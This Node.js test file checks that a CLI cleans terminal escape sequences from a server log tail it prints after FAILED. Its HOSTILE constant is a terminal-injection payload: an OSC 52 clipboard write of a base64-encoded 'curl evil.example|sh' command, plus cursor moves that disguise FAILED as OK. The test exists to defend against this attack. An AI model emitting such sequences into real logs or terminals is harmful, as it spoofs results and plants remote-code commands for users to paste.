/**
 * Faults: the server account writes terminal escape sequences into the log whose tail root's
 * start prints after FAILED (issue 6, reproduction 6, local half).
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, chownSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { cleanUp, makeRoot, runCli, server, waitFor } from './local-support.js';

after(cleanUp);

// OSC 52 (put a command in the clipboard), then cursor up, erase line and "OK": on a terminal,
// FAILED would read OK.
const HOSTILE = '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\007\\033[2A\\033[2KOK\\033[1B\\n';

describe('the server log tail', () => {
  test('OSC 52 and cursor moves the server account writes to the log reach the terminal cleaned, after FAILED', async () => {
    const scratch = makeRoot();
    mkdirSync(scratch.logDir, { recursive: true });
    const log = join(scratch.logDir, 'log');
    writeFileSync(log, '');
    chownSync(log, 0, server.gid);
    chmodSync(log, 0o664);
    // The server account, appending to the log it may write, all through root's start.
    const writer = spawn('setpriv', ['--reuid', String(server.uid), '--regid', String(server.gid), '--groups', String(server.gid), '--', 'sh', '-c', `while :; do printf '${HOSTILE}' >>"$1"; sleep 0.01; done`, 'writer', log], { stdio: 'ignore' });
    try {
      assert.ok(await waitFor(() => readFileSync(log, 'utf8').includes('\u001b]52;')), 'the writer writes');
      const result = await runCli(scratch, ['start', '-r', '6.1.0-fault-a', '--ssl', '/nonexistent/ssl-db']);
      assert.equal(result.code, 1);
      assert.match(result.stdout, /\nFAILED\n$/);
      assert.match(result.stderr, /last lines of the server log:\n(?: {2}.*\n)*? {2}OK\n/, 'the hostile lines are in the tail, cleaned');
      // eslint-disable-next-line no-control-regex
      assert.doesNotMatch(result.stdout + result.stderr, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    } finally {
      writer.kill('SIGKILL');
    }
  });
});
